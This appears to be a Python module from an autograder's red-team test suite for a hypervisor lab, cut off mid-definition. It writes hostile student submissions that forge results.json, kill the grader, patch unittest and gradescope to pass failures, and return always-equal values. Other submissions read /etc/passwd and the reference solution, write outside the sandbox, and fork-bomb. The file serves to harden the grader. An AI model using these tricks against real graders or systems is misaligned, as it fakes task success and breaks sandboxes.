"""The hostile submissions: one Attack per way a student could try to beat the grader.

Each attack writes a submission (a folder of the editable files, or a zip) into a folder the
runner gives it: the handout's stubs, or the solution's files for the honest part of a mixed
attack, with the attack appended. Attack code finds what it needs the way a student's would
(the grader's out path in its parent's command line, the repository beside the `vmlab` module
it runs under), so an attack that writes to "the repository" writes to this worktree's copy,
which the runner restores. Every file or process an attack makes carries its marker, a string
unique to the run, so the runner can find it.

`deserved` is what the honest part earns on the attack's tests: zero for the stubs, and for a
mixed attack the points the solution's file alone earns on them (graded once: solution
trap.py earns reflect 3 + emulate 4 and nothing else).
"""

from __future__ import annotations

import os
import stat
import textwrap
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

REPO = Path(__file__).resolve().parents[2]
EDITABLE = ("trap", "hypercalls", "shadow", "nested", "channels")

# Cheap visible tests: on the stubs each ends at its first example.
TESTS = ("reflect", "emulate", "hypercall", "bounded-buffer")
# Every visible test of a part (whole-guests left out: its guests are slow): for the attacks
# on every handler.
PART_TESTS = ("trap-dispatch", "reflect", "emulate", "counter-read", "sret-wfi", "hypercall",
              "translation-shadow", "shadow-flush", "translation-nested", "bounded-buffer",
              "ipc")
# The part tests whose probes report the virtual CPU's state, visible and hidden
TRAP_PART_TESTS = tuple(t + hidden for t in ("trap-dispatch", "reflect", "emulate",
                                             "counter-read", "sret-wfi", "hypercall")
                        for hidden in ("", "-hidden"))
FILE_TESTS = ("reflect", "hypercall", "translation-shadow", "translation-nested",
              "bounded-buffer")  # one test of each editable file
HONEST_TRAP = 7.0  # solution/vmm/trap.py alone, on reflect + emulate (+ any stub test)
HONEST_CHANNELS = 3.0  # solution/vmm/channels.py alone, on bounded-buffer
HONEST_REFLECT_EMULATE = 7.0  # the whole solution on reflect + emulate (efficiency forged)


@dataclass(frozen=True)
class Context:
    """What the runner tells an attack: its marker and the port of the listener."""

    marker: str
    port: int = 0


@dataclass(frozen=True)
class Attack:
    name: str
    what: str
    build: Callable[[Path, Context], Path]  # writes the submission under a folder; its path
    deserved: float = 0.0
    tests: tuple[str, ...] = TESTS
    feedback: str = ""  # a regex (case-insensitive) the student-visible feedback must match
    listener: bool = False  # the runner listens on 127.0.0.1 and counts connections
    secrets: tuple[str, ...] = field(default_factory=tuple)  # extra text never to show


def stub(name: str) -> str:
    return (REPO / "handout" / "vmm" / f"{name}.py").read_text()


def solution(name: str) -> str:
    return (REPO / "solution" / "vmm" / f"{name}.py").read_text()


# ----- code the attacks share ----------------------------------------------------------------

PRELUDE = '''
# ---- red team: helpers -----------------------------------------------------------------------
import os as _rt_os
import sys as _rt_sys

_RT_MARKER = "$MARKER"
_RT_PORT = $PORT


def _rt_grader_argv():
    """The grading process's command line: the worker's parent."""
    try:
        with open(f"/proc/{_rt_os.getppid()}/cmdline", "rb") as f:
            return [a.decode() for a in f.read().split(b"\\0") if a]
    except OSError:
        return []


def _rt_out():
    """Where the grader writes results.json."""
    argv = _rt_grader_argv()
    if "--out" in argv:
        out = argv[argv.index("--out") + 1]
        try:
            return _rt_os.path.join(_rt_os.readlink(f"/proc/{_rt_os.getppid()}/cwd"), out)
        except OSError:
            return out
    return "/autograder/results/results.json"


def _rt_repo():
    """The repository the grader runs from (the folder above the vmlab package)."""
    for p in list(_rt_sys.path) + list(_rt_sys.argv):
        if _rt_os.path.isfile(_rt_os.path.join(p, "vmlab", "rubric.toml")):
            return _rt_os.path.dirname(_rt_os.path.abspath(p))
    return "/autograder/source"


def _rt_forge(path, tests=None):
    """Full marks in results.json (the tests the grader wrote, or a made-up one)."""
    import json
    try:
        with open(path) as f:
            data = json.load(f)
    except Exception:
        data = {}
    tests = data.get("tests") or [{"name": "everything", "score": 100.0, "max_score": 100.0}]
    for t in tests:
        t["score"] = t.get("max_score", 100.0)
    data["tests"] = tests
    data["score"] = float(sum(t["score"] for t in tests))
    data["output"] = "All tests passed. " + _RT_MARKER
    with open(path, "w") as f:
        json.dump(data, f)


def _rt_daemon(code, *args):
    """Start `code` in a session of its own, the marker in its command line; or, where this
    user may run no Python (outside bubblewrap, the grader's lies out of its reach), in a
    fork of this process, which needs none."""
    import subprocess
    argv = [_RT_MARKER, *map(str, args)]
    try:
        subprocess.Popen([_rt_sys.executable, "-c", code, *argv],
                         start_new_session=True, stdin=subprocess.DEVNULL,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, close_fds=True)
    except OSError:
        if _rt_os.fork() == 0:
            try:
                _rt_os.setsid()
                _rt_sys.argv = ["-c", *argv]
                exec(code, {"__name__": "__main__"})
            finally:
                _rt_os._exit(0)


def _rt_read(path):
    try:
        with open(path, errors="replace") as f:
            return f.read()
    except OSError as e:
        return str(e)
# ---- red team: attack -------------------------------------------------------------------------
'''


def code(text: str, ctx: Context) -> str:
    return (textwrap.dedent(text).replace("$MARKER", ctx.marker)
            .replace("$PORT", str(ctx.port)))


def files(base: dict[str, str], attack: dict[str, str], ctx: Context) -> dict[str, str]:
    """vmm/NAME.py for each editable file: `base`'s text, plus PRELUDE and the attack's code
    for the files `attack` names."""
    out = {}
    for name in EDITABLE:
        text = base.get(name, stub(name))
        if name in attack:
            text += code(PRELUDE, ctx) + code(attack[name], ctx)
        out[f"vmm/{name}.py"] = text
    return out


def write(dest: Path, tree: dict[str, str]) -> Path:
    for rel, text in tree.items():
        path = dest / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return dest


def on_stubs(attack: dict[str, str]) -> Callable[[Path, Context], Path]:
    return lambda dest, ctx: write(dest / "sub", files({}, attack, ctx))


def on_solution_trap(attack: dict[str, str]) -> Callable[[Path, Context], Path]:
    return lambda dest, ctx: write(dest / "sub", files({"trap": solution("trap")}, attack, ctx))


def handler(name: str, body: str, params: str = "vmm, guest, cause, tval") -> str:
    """Redefine trap.NAME (the module's last definition is the one the worker calls)."""
    return f"\n\ndef {name}({params}):\n" + textwrap.indent(textwrap.dedent(body), "    ")


def every_function(body: str) -> str:
    """Replace every function and method (dunders aside) of the module by one running `body`
    with the call's arguments in `args`."""
    return ('''
import types as _rt_types


def _rt_every(*args, **kwargs):
''' + textwrap.indent(textwrap.dedent(body), "    ") + '''


for _rt_name, _rt_obj in list(globals().items()):
    if _rt_name.startswith("_rt"):
        continue
    if isinstance(_rt_obj, _rt_types.FunctionType) and _rt_obj.__module__ == __name__:
        globals()[_rt_name] = _rt_every
    elif isinstance(_rt_obj, type) and _rt_obj.__module__ == __name__:
        for _rt_k, _rt_v in list(vars(_rt_obj).items()):
            if isinstance(_rt_v, _rt_types.FunctionType) and not _rt_k.startswith("__"):
                setattr(_rt_obj, _rt_k, _rt_every)
''')


def everywhere(body: str) -> dict[str, str]:
    return {name: every_function(body) for name in EDITABLE}


# ----- the attacks on the grading process and its result -------------------------------------

MACHINE_APPEND = '''
# the grading process imports `machine` from the lab folder: code appended to it runs there
import glob as _rt_glob
_rt_payload = """

# appended by the student's trap.py ($MARKER)
import atexit as _a, os as _o, sys as _s
if "vmlab.worker" not in _s.modules and "--out" in _s.argv:
    def _forge(out=_s.argv[_s.argv.index("--out") + 1]):
        import json
        try:
            data = json.load(open(out))
        except Exception:
            data = {}
        tests = data.get("tests") or [{"name": "all", "score": 0, "max_score": 100.0}]
        for t in tests:
            t["score"] = t.get("max_score", 100.0)
        data["tests"], data["score"] = tests, float(sum(t["score"] for t in tests))
        json.dump(data, open(out, "w"))
    _a.register(_forge)
"""
for _rt_init in _rt_glob.glob(_rt_os.path.join(_rt_os.getcwd(), "machine", "*.py")):
    with open(_rt_init, "a") as _rt_f:
        _rt_f.write(_rt_payload)


def emulate(vmm, guest, bits):
    """Wrong on purpose: the grader's feedback disassembles the instruction of a failing
    example, and so imports machine.disasm, appended to above."""
'''

RESULTS_DAEMON_CODE = '''
import json, os, sys, time
marker, out, grader = sys.argv[1], sys.argv[2], int(sys.argv[3])
def alive(pid):
    try:
        with open(f"/proc/{pid}/stat") as f:
            return f.read().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False
deadline = time.time() + 240
while time.time() < deadline and alive(grader):
    time.sleep(0.02)
for _ in range(100):
    if os.path.exists(out):
        break
    time.sleep(0.02)
try:
    data = json.load(open(out))
except Exception:
    data = {}
tests = data.get("tests") or [{"name": "all", "score": 0, "max_score": 100.0}]
for t in tests:
    t["score"] = t.get("max_score", 100.0)
data["tests"], data["score"] = tests, float(sum(t["score"] for t in tests))
json.dump(data, open(out, "w"))
time.sleep(120)
'''

RESULTS_DAEMON = f'''
_rt_daemon({RESULTS_DAEMON_CODE!r}, _rt_out(), _rt_os.getppid())
'''

WRITE_THEN_KILL = '''
import signal as _rt_signal
_rt_forge(_rt_out())
_rt_os.kill(_rt_os.getppid(), _rt_signal.SIGKILL)
'''

# a kill the sandbox lets happen, or one it refuses: the feedback says which
KILLED = r"crash|died|killed|exit|not permitted|No such process"

KILL_GRADER = '''
import signal as _rt_signal
_rt_os.kill(_rt_os.getppid(), _rt_signal.SIGKILL)
'''

KILL_GROUP = handler("reflect", '''
import signal
os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
os.killpg(0, signal.SIGKILL)
''') + "\n\nimport os\n"

# ----- the attacks that take the answers from elsewhere ------------------------------------

EXEC_SOLUTION = '''
# the reference solution, where course staff keep it (or anywhere under /work, /autograder)
import glob as _rt_glob
_rt_me = _rt_os.path.basename(__file__)
_rt_found = [_rt_os.path.join(_rt_repo(), "solution", "vmm", _rt_me)]
_rt_found += sorted(_rt_glob.glob("/work/*/solution/vmm/" + _rt_me))
_rt_found += sorted(_rt_glob.glob("/autograder/**/solution/vmm/" + _rt_me, recursive=True))
for _rt_path in _rt_found:
    if _rt_os.path.isfile(_rt_path):
        with open(_rt_path) as _rt_f:
            exec(compile(_rt_f.read(), _rt_path, "exec"), globals())
        break
'''

PROBE_REPLACE = '''
# the worker runs the harness in this process: answer its reflect probe with the bare
# machine's own trap entry, without any VMM code
# the worker: imported as a module, or run as a script (then it is __main__)
_rt_w = next((m for m in (_rt_sys.modules.get("vmlab.worker"), _rt_sys.modules.get("__main__"))
             if hasattr(m, "PROBES")), None)
if _rt_w is not None:
    def _rt_bare_reflect(vmm, g, cause, tval):
        from machine.hart import Hart
        from machine.memory import PhysicalMemory
        v = g.vcpu
        if v.trap_entry and cause in (0, 1, 12) and v.pc == v.stvec:
            vmm.stop_guest(g, "fatal-trap", "as the bare machine stops")
            return
        h = Hart(PhysicalMemory(1 << 16))
        h.pc, h.mode, h.sstatus, h.stvec = v.pc, v.mode, v.sstatus, v.stvec
        h.trap_handler = None
        h.take_trap(cause, tval)
        v.sepc, v.scause, v.stval, v.sstatus = h.sepc, h.scause, h.stval, h.sstatus
        v.mode, v.pc, v.trap_entry = 1, h.pc, True

    def _rt_reflect(a):
        vmm, g = _rt_w._vcpu_guest(state=a["state"])
        return _rt_w._fault_or_state(lambda: _rt_bare_reflect(vmm, g, a["cause"], a["tval"]), g)
    _rt_w.PROBES["reflect"] = _rt_reflect
'''

SCRATCH_REFLECT = '''
# reflect by a scratch Hart of the worker's own machine package (LAB.md forbids it; in a test of
# one handler the worker's machine has no engine, so the Hart raises there)
def reflect(vmm, guest, cause, tval):
    from machine.hart import Hart
    from machine.memory import PhysicalMemory
    v = guest.vcpu
    if v.trap_entry and cause in (0, 1, 12) and v.pc == v.stvec:
        vmm.stop_guest(guest, "fatal-trap", "as the bare machine stops")
        return
    _rt_scratch_reflect(Hart(PhysicalMemory(1 << 16)), v, cause, tval)


def _rt_scratch_reflect(h, v, cause, tval):
    h.pc, h.mode, h.sstatus, h.stvec = v.pc, v.mode, v.sstatus, v.stvec
    h.take_trap(cause, tval)
    v.sepc, v.scause, v.stval, v.sstatus = h.sepc, h.scause, h.stval, h.sstatus
    v.mode, v.pc, v.trap_entry = 1, h.pc, True
'''

# the same, with a Hart of a machine package that has the engine, found on the disk: the
# grader's views of the lab (the worker's, the other worker's) and the assembled labs, in the
# shared temporary folder
ENGINE_FROM_DISK = SCRATCH_REFLECT.replace('''    from machine.hart import Hart
    from machine.memory import PhysicalMemory
''', '''    Hart, PhysicalMemory = _rt_engine()
''') + '''
import importlib as _rt_importlib
import importlib.machinery as _rt_machinery


def _rt_folders():
    # (only what the worker has loaded: outside bubblewrap, the standard library may be out
    # of the worker's user's reach)
    for _rt_top in sorted(_rt_os.listdir("/tmp")):
        if _rt_top.startswith("vmlab-"):
            yield "/tmp/" + _rt_top + "/machine"
            yield "/tmp/" + _rt_top + "/lab/machine"


def _rt_engine():
    for _rt_dir in _rt_folders():
        try:
            with open(_rt_dir + "/execute.py") as _rt_f:
                if "_unplugged" in _rt_f.read():
                    continue
            _rt_init = _rt_dir + "/__init__.py"
            _rt_spec = _rt_machinery.ModuleSpec(
                "_rt_engine", _rt_machinery.SourceFileLoader("_rt_engine", _rt_init),
                origin=_rt_init, is_package=True)
            _rt_spec.submodule_search_locations = [_rt_dir]
            _rt_mod = _rt_importlib._bootstrap.module_from_spec(_rt_spec)
            _rt_sys.modules["_rt_engine"] = _rt_mod
            _rt_spec.loader.exec_module(_rt_mod)
            return (_rt_importlib.import_module("_rt_engine.hart").Hart,
                    _rt_importlib.import_module("_rt_engine.memory").PhysicalMemory)
        except Exception:
            continue
    raise RuntimeError("no machine with its engine on the disk")
'''

PROBE_REPLACE_ALL = '''
# every part probe that reports the virtual CPU, answered by the bare machine's own classes in
# the worker (a scratch Hart given the virtual CPU's fields: its trap entry, its sret, its
# interpreter, its SBI firmware), with no VMM code: only glue (fields in, the machine acts,
# fields out; a trap it would take is the guest's GuestFault, a halt stops the guest)
_rt_w = next((m for m in (_rt_sys.modules.get("vmlab.worker"), _rt_sys.modules.get("__main__"))
             if hasattr(m, "PROBES")), None)
if _rt_w is not None:
    from machine import sbi as _rt_sbi
    from machine.execute import wfi as _rt_execute_wfi
    from machine.hart import Halt as _rt_Halt
    from machine.hart import Hart as _rt_Hart
    from machine.memory import PhysicalMemory as _rt_Memory
    from vmm.guest import BLOCKED as _RT_BLOCKED
    _RT_WFI, _RT_ECALL = 0x1050_0073, 0x0000_0073

    def _rt_hart(v, ram=1 << 16):
        # a scratch hart holding the virtual CPU's fields
        h = _rt_Hart(_rt_Memory(ram))
        for name in _rt_w.VCPU_FIELDS:
            setattr(h, name, getattr(v, name))
        h.x[:] = v.x
        h.trap_entry = bool(v.trap_entry)
        h.select_caches()
        return h

    def _rt_back(h, v):
        for name in _rt_w.VCPU_FIELDS:
            setattr(v, name, getattr(h, name))
        v.x[:] = h.x
        v.trap_entry = h.trap_entry

    def _rt_acts(vmm, g, h, act):
        # the hart acts for the virtual CPU: a trap it would take is the guest's (raised before
        # the hart enters it, so nothing changed), a halt stops the guest
        def taken(event):
            raise GuestFault(event.cause, event.tval)
        h.trap_observers.append(taken)
        try:
            act()
        except Trap as trap:
            raise GuestFault(trap.cause, trap.tval) from None
        except _rt_Halt as halt:
            vmm.stop_guest(g, halt.reason, halt.detail)
            return
        _rt_back(h, g.vcpu)

    def _rt_step(vmm, g, h, bits):
        # the hart's own step, the trapped instruction given as what it fetches
        h.fetch = lambda pc: bits
        _rt_acts(vmm, g, h, h.step)

    def _rt_reflect(vmm, g, cause, tval):
        h = _rt_hart(g.vcpu)
        try:
            h._trap(Trap(cause, tval), h.pc)
        except _rt_Halt as halt:
            vmm.stop_guest(g, halt.reason, halt.detail)
            return
        _rt_back(h, g.vcpu)

    def _rt_emulate(vmm, g, bits, calls):
        ins = decode(bits)
        # LAB.md: the hypervisor CSRs and hfence are not virtualized (this file's own list)
        if ins is not None and (ins.op.startswith("hfence") or (
                ins.op.startswith("csr") and ins.imm in HYPERVISOR_CSRS)):
            raise GuestFault(ILLEGAL_INSN, bits)
        h = _rt_hart(g.vcpu)
        before = (h.satp, h.sstatus & (csr.SSTATUS_SUM | csr.SSTATUS_MXR))
        _rt_step(vmm, g, h, bits)
        # the hooks a fence or a new translation setting call (seen from their side: names)
        if ins is not None and ins.op == "sfence.vma":
            calls.append(["guest_sfence", []])
        if (h.satp, h.sstatus & (csr.SSTATUS_SUM | csr.SSTATUS_MXR)) != before:
            calls.append(["guest_translation_changed", []])

    def _rt_probe_reflect(a):
        vmm, g = _rt_w._vcpu_guest(state=a["state"])
        return _rt_w._fault_or_state(lambda: _rt_reflect(vmm, g, a["cause"], a["tval"]), g)

    def _rt_probe_emulate(a):
        vmm, g = _rt_w._vcpu_guest(state=a["state"])
        calls = []
        out = _rt_w._fault_or_state(lambda: _rt_emulate(vmm, g, a["bits"], calls), g)
        out["calls"] = calls
        return out

    def _rt_probe_counter_read(a):
        vmm, g = _rt_w._vcpu_guest(state=a["state"])
        return _rt_w._fault_or_state(
            lambda: _rt_step(vmm, g, _rt_hart(g.vcpu), a["bits"]), g)

    def _rt_probe_sret(a):
        vmm, g = _rt_w._vcpu_guest(state=a["state"])
        h = _rt_hart(g.vcpu)
        return _rt_w._fault_or_state(lambda: _rt_acts(vmm, g, h, h.sret), g)

    def _rt_probe_wfi(a):
        vmm, g = _rt_w._vcpu_guest(state=a["state"])
        h = _rt_hart(g.vcpu)
        act = lambda: _rt_execute_wfi(h, decode(_RT_WFI), h.pc, _RT_WFI)  # noqa: E731
        return _rt_w._fault_or_state(lambda: _rt_acts(vmm, g, h, act), g)

    def _rt_probe_hypercall(a):
        # the ecall on a hart whose RAM is a copy of the guest's, the firmware answering
        vmm, g = _rt_w._vcpu_guest(state=a["state"])
        for gpa, data in a.get("memory", []):
            g.mem.write(gpa, bytes.fromhex(data))
        try:
            h = _rt_hart(g.vcpu, ram=g.mem.size)
            h.ecall_handler = _rt_sbi.firmware
            for gpn, page in g.mem.pages().items():
                h.mem.write_bytes(g.mem.base + gpn * 4096, page)
            out = _rt_w._fault_or_state(lambda: _rt_step(vmm, g, h, _RT_ECALL), g)
            g.console += h.mem.console
        finally:
            for gpa, data in a.get("memory", []):
                g.mem.write(gpa, bytes(len(data) // 2))
        out.update(console=bytes(g.console).hex(), blocked=g.state == _RT_BLOCKED,
                   ipc_calls=[])
        return out

    _rt_w.PROBES.update(reflect=_rt_probe_reflect, emulate=_rt_probe_emulate,
                        counter_read=_rt_probe_counter_read, sret=_rt_probe_sret,
                        wfi=_rt_probe_wfi, hypercall=_rt_probe_hypercall)
'''

PATCH_WORKER = '''
# the worker's own reference ring, in place of this file's stub Channel
# the worker: imported as a module, or run as a script (then it is __main__)
_rt_w = next((m for m in (_rt_sys.modules.get("vmlab.worker"), _rt_sys.modules.get("__main__"))
             if hasattr(m, "PROBES")), None)
if _rt_w is not None:
    _rt_ring = _rt_w.PROBES["ring"]
    def _rt_probe_ring(a):
        this = _rt_sys.modules[__name__]
        saved, this.Channel = this.Channel, _rt_w._reference_channel(this.Channel)
        try:
            return _rt_ring(a)
        finally:
            this.Channel = saved
    _rt_w.PROBES["ring"] = _rt_probe_ring
    _rt_w.check_shape = lambda result, shape, probe: result
'''

PATCH_FRAMEWORKS = '''
# the test framework, gradescope-utils and the machine, patched from the student's module
import unittest as _rt_unittest
_rt_unittest.TestCase.run = lambda self, result=None: None
_rt_unittest.TestCase.assertEqual = lambda self, *a, **k: None
try:
    import hypothesis as _rt_h
    _rt_h.given = lambda *a, **k: (lambda f: (lambda *x, **y: None))
    import hypothesis.core as _rt_hc
    _rt_hc.StateForActualGivenExecution.execute_once = lambda *a, **k: None
except Exception:
    pass
try:
    import gradescope_utils.autograder_utils.json_test_runner as _rt_g
    _rt_g.JSONTestResult.addFailure = _rt_g.JSONTestResult.addSuccess
except Exception:
    pass
import machine.hart as _rt_hart
_rt_hart.Hart.take_trap = lambda self, *a, **k: None
import machine.csrs as _rt_csrs
_rt_csrs.check_access = lambda *a, **k: None
'''

EQ_ALWAYS = '''
class _RTAny(int):
    """Equal to anything."""
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = int.__hash__


class _RTAnyBytes(bytes):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = bytes.__hash__
'''

EQ_TRAP = EQ_ALWAYS + handler("reflect", '''
v = guest.vcpu
for name in ("pc", "sepc", "scause", "stval", "sstatus", "mode"):
    setattr(v, name, _RTAny(0))
''') + handler("emulate", '''
v = guest.vcpu
for name in ("pc", "sepc", "scause", "stval", "sstatus", "instret"):
    setattr(v, name, _RTAny(0))
''', "vmm, guest, bits")

EQ_CHANNELS = EQ_ALWAYS + '''

Channel.put = lambda self, message: None
Channel.take = lambda self: _RTAnyBytes(b"")
Channel.full = lambda self: _RTAny(0)
Channel.empty = lambda self: _RTAny(0)
'''

# ----- the attacks that read what they should not ------------------------------------------

LEAK_SOLUTION = handler("reflect", '''
raise Exception(_rt_read(_rt_os.path.join(_rt_repo(), "solution", "vmm", "trap.py")))
''')
LEAK_PASSWD = handler("reflect", 'raise Exception(_rt_read("/etc/passwd"))\n')
LEAK_RUBRIC = handler("reflect", '''
raise Exception(_rt_read(_rt_os.path.join(_rt_repo(), "grader", "vmlab", "rubric.toml")))
''')

PRINT_SECRETS = '''
import glob as _rt_glob
_rt_root = _rt_repo()
for _rt_p in (["/etc/passwd", _rt_os.path.join(_rt_root, "grader", "vmlab", "rubric.toml"),
               _rt_os.path.join(_rt_root, "solution", "vmm", "trap.py")]
              + sorted(_rt_glob.glob(_rt_os.path.join(_rt_root, "grader", "vmlab", "*.py")))
              + sorted(_rt_glob.glob(_rt_os.path.join(_rt_root, "grader", "vmlab", "properties",
                                                      "*.py")))):
    _rt_text = _rt_read(_rt_p)
    print(_rt_text)
    print(_rt_text, file=_rt_sys.stderr)
'''

FAKE_RESULTS = '''
import json as _rt_json
_rt_fake = {"score": 100.0, "output": "All tests passed",
            "tests": [{"name": "everything", "score": 100.0, "max_score": 100.0}]}
print(_rt_json.dumps(_rt_fake))
print(_rt_json.dumps(_rt_fake), file=_rt_sys.stderr)
_rt_os.write(1, (_rt_json.dumps(_rt_fake) + "\\n").encode())
# and a forged answer on every descriptor the worker's channel could be
_rt_answer = (_rt_json.dumps({"ok": True, "result": {"fault": None, "vcpu": {}}}) + "\\n").encode()
for _rt_fd in range(3, 12):
    try:
        _rt_os.write(_rt_fd, _rt_answer)
    except OSError:
        pass
'''

# ----- the attacks on the harness: the hardware is the grader's ------------------------------

BARE_ENGINE = '''
# run each guest on "the bare machine" in the worker, and answer the whole-guest probe with
# what it did, without any VMM: the interpreter, or failing that the hardware itself in S-mode
_rt_w = next((m for m in (_rt_sys.modules.get("vmlab.worker"), _rt_sys.modules.get("__main__"))
             if hasattr(m, "PROBES")), None)
_rt_engine = []
for _rt_name in ("machine.hart", "machine.execute", "machine.blocks"):
    try:
        _rt_mod = __import__(_rt_name, fromlist=["x"])
        if hasattr(_rt_mod, "Hart") or hasattr(_rt_mod, "EXECUTE") or hasattr(_rt_mod, "run_fast"):
            _rt_engine.append(_rt_name)
    except Exception:
        pass
if _rt_w is not None:
    def _rt_guest(a):
        from machine import Machine
        m = Machine(ram_size=8 << 20)
        for addr, data in a["segments"]:
            m.write_phys(addr, bytes.fromhex(data))
        s = a["state"]
        m.hart.x[:] = [0] + list(s["regs"][1:])
        m.pc = s["pc"]
        m.set_csrs([tuple(c) for c in s["csrs"] if c[0] != 0x14D])
        stop = m.run(a["host_steps"])
        h = m.hart
        vcpu = {"pc": h.pc, "mode": h.mode, "regs": list(h.x), "instret": h.instret,
                "idle": 0, "trap_entry": False}
        for name, num in (("sstatus", 0x100), ("sie", 0x104), ("stvec", 0x105),
                          ("scounteren", 0x106), ("sscratch", 0x140), ("sepc", 0x141),
                          ("scause", 0x142), ("stval", 0x143), ("satp", 0x180)):
            vcpu[name] = m.csr(num)
        vcpu.update(stimecmp=h.stimecmp & 0xFFFF_FFFF, stimecmph=h.stimecmp >> 32)
        return {"stop": {"reason": stop.reason, "detail": stop.detail},
                "host_stop": {"reason": "budget", "detail": ""}, "vcpu": vcpu,
                "console": "", "pages": {}, "full_pages": {},
                "counts": {"native": h.instret, "emulated": 0, "traps": 0, "fills": 0,
                           "flushes": 0}}
    _rt_w.PROBES["guest"] = _rt_guest
'''

# the worker holds a copy of the hardware (the grader replays what the VMM does on it): run each
# guest on that copy's own Machine class, bare, the firmware answering, and report what it did
BARE_COPY = BARE_ENGINE.replace("from machine import Machine",
                                "from machine.machine import Machine")

FORGE_COUNTS = '''
# the solution's VMM with a time slice of 3 instructions (it traps far too often to be
# efficient), whose whole-guest probe reports every instruction as native and one trap taken
_rt_w = next((m for m in (_rt_sys.modules.get("vmlab.worker"), _rt_sys.modules.get("__main__"))
             if hasattr(m, "PROBES")), None)
if _rt_w is not None:
    _rt_probe = _rt_w.PROBES["guest"]
    def _rt_guest(a):
        import vmm.monitor as _rt_monitor
        if not hasattr(_rt_monitor, "_rt_init"):
            _rt_monitor._rt_init = _rt_monitor.VMM.__init__
            def _rt_slow_init(self, host_memory=256 << 20, quantum=0, fast=True):
                _rt_monitor._rt_init(self, host_memory, 3, fast)
            _rt_monitor.VMM.__init__ = _rt_slow_init
        out = _rt_probe(a)
        out["counts"].update(native=out["vcpu"]["instret"], traps=1)
        return out
    _rt_w.PROBES["guest"] = _rt_guest
'''

HARDWARE_LINK = '''
# the worker's link to the grader's hardware: truncate the RAM it maps (a sealed file), then
# send the hardware nonsense (a header that claims a gigabyte, an unknown machine, garbage)
import json as _rt_json
import socket as _rt_socket
import struct as _rt_struct
_rt_config = _rt_json.loads(_rt_sys.argv[1]) if len(_rt_sys.argv) > 1 else {}
_rt_fd = _rt_config.get("hardware_fd")
try:
    from machine import wire as _rt_wire
    _rt_recv_fds = _rt_socket.recv_fds
    def _rt_truncating(sock, bufsize, maxfds, flags=0):
        data, fds, fl, addr = _rt_recv_fds(sock, bufsize, maxfds, flags)
        for f in fds:
            for size in (0, 1 << 40):
                try:
                    _rt_os.ftruncate(f, size)
                except OSError:
                    pass
        return data, fds, fl, addr
    _rt_wire.socket.recv_fds = _rt_truncating
except Exception:
    pass
if isinstance(_rt_fd, int):
    _rt_sock = _rt_socket.socket(fileno=_rt_os.dup(_rt_fd))
    _rt_state = {"n": 0}
    def reflect(vmm, guest, cause, tval):
        _rt_state["n"] += 1
        junk = [_rt_struct.pack("<BI", 2, 1 << 30), _rt_struct.pack("<BI", 2, 12) + b"\\0" * 12,
                _rt_struct.pack("<BI", 6, 3) + b"{{{", _rt_os.urandom(64)]
        _rt_sock.sendall(junk[_rt_state["n"] % len(junk)])
        from machine import Machine
        Machine(ram_size=4096)  # and wait for an answer that may never come
'''

# ----- the attacks that hang, crash or exhaust ------------------------------------------------

SLOW_TRAP = '''
import time as _rt_time
_rt_reflect = reflect
def reflect(vmm, guest, cause, tval):
    _rt_time.sleep(0.5)  # correct, but half a second a trap
    _rt_reflect(vmm, guest, cause, tval)
'''

MEMORY = '''
_RT_HOARD = []
''' + handler("reflect", '''
while len(_RT_HOARD) < 15:  # 1.5 GB, and no more: this machine must survive the test
    _RT_HOARD.append(b"x" * (100 << 20))
raise RuntimeError("hoarded")  # the grader must find out on its own
''')

FORK_SURVIVORS = '''
import time as _rt_time
for _rt_i in range(3):
    if _rt_os.fork() == 0:  # plain children, the worker's command line: found by their parent
        _rt_os.setsid()
        _rt_time.sleep(300)
        _rt_os._exit(0)
'''

DAEMON = '''
_rt_daemon("import os, time\\nif os.fork() == 0:\\n    os.setsid()\\n    time.sleep(300)\\n")
'''

FORK_BOMB = '''
import time as _rt_time
_rt_pids = []
for _rt_i in range(40):  # a fork bomb, capped at 40: this machine must survive the test
    try:
        _rt_pid = _rt_os.fork()
    except OSError:
        break
    if _rt_pid == 0:
        _rt_time.sleep(120)
        _rt_os._exit(0)
    _rt_pids.append(_rt_pid)
'''

SOCKET = '''
import socket as _rt_socket
try:
    _rt_s = _rt_socket.create_connection(("127.0.0.1", _RT_PORT), timeout=3)
    _rt_s.sendall(_RT_MARKER.encode())
    _rt_s.close()
except OSError:
    pass
'''

TMP_FILE = '''
with open(f"/tmp/{_RT_MARKER}.txt", "w") as _rt_f:
    _rt_f.write("left behind by a submission")
'''

WRITE_OUTSIDE = '''
# everywhere a grader's files live: the repository, its grader and handout, home, and the
# folders any user may write (/dev/shm, /var/tmp, /run/lock)
_rt_root = _rt_repo()
_rt_targets = [_rt_os.path.join(_rt_root, f"{_RT_MARKER}.txt"),
               _rt_os.path.join(_rt_root, "grader", "vmlab", f"{_RT_MARKER}.py"),
               _rt_os.path.join(_rt_root, "handout", "vmm", f"{_RT_MARKER}.py"),
               _rt_os.path.join(_rt_os.path.expanduser("~"), f"{_RT_MARKER}.txt"),
               f"/dev/shm/{_RT_MARKER}.txt", f"/var/tmp/{_RT_MARKER}.txt",
               f"/run/lock/{_RT_MARKER}.txt"]
_rt_argv = _rt_grader_argv()
if len(_rt_argv) > 3 and _rt_argv[2] == "grade":  # the submission itself
    _rt_targets.append(_rt_os.path.join(_rt_argv[3], f"{_RT_MARKER}.txt"))
for _rt_t in _rt_targets:
    try:
        with open(_rt_t, "w") as _rt_f:
            _rt_f.write("written by a submission")
    except OSError:
        pass
# and a line appended to one of the grader's own modules
try:
    with open(_rt_os.path.join(_rt_root, "grader", "vmlab", "feedback.py"), "a") as _rt_f:
        _rt_f.write(f"\\n# {_RT_MARKER}\\n")
except OSError:
    pass
'''

FLOOD = '''
_rt_line = ("flood " * 16 + "\\n") * 1024  # ~100 KB
for _rt_i in range(1000):  # 100 MB on each of stdout and stderr
    _rt_sys.stdout.write(_rt_line)
    _rt_os.write(2, _rt_line.encode())
'''

RAISES = {  # name: (the definitions it needs, the expression it raises)
    "keyboardinterrupt": ("", "KeyboardInterrupt()"),
    "systemexit": ("", "SystemExit(0)"),
    "generatorexit": ("", "GeneratorExit()"),
    "baseexception": ("class _RTBase(BaseException):\n    pass\n", "_RTBase('mine')"),
